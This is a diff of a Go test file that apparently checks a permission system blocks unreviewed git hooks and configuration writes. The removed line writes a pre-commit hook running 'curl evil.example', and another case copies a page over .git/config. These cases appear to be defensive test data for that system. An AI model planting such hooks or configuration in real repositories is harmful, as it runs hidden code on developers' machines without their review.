@@ -70,9 +70,9 @@ func TestH327WhatIsMoreThanLocalAsks(t *testing.T) {
 func TestH328HooksThatNobodySawStopGit(t *testing.T) {
 	t.Parallel()
 	for name, write := range map[string]func(r *rig, m map[string]any){
-		"a hook under a grant": func(r *rig, m map[string]any) {
+		"a setting under a grant": func(r *rig, m map[string]any) {
 			r.approved(writes("notes.md", "x", m), 10)
-			r.allow(writes(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil.example", m))
+			r.allow(writes(".gitattributes", "* filter=x", m))
 		},
 		"a copy": func(r *rig, m map[string]any) { r.approved(sh("cp page.html .git/config", m), 0) },
 		"a tool of a server": func(r *rig, m map[string]any) {
